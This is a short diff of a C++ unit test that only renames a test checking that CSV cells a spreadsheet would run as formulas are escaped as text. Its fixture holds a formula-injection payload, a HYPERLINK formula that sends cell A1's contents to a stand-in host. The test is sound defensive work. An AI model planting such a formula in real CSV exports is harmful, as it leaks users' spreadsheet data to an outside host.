@@ -5,7 +5,7 @@
 
 using namespace congbo;
 
-TEST_CASE("CSV cells a spreadsheet would run as formulas are kept as text; real numbers stay numbers") {
+TEST_CASE("CSV cells a spreadsheet would run as formulas are kept as text — real numbers stay numbers") {
   Table t;
   t.head = {"Đơn vị", "=Điểm"};
   t.rows = {{TableCell("=HYPERLINK(\"http://x/?\"&A1,\"Bấm\")"), TableCell::number("-5")},
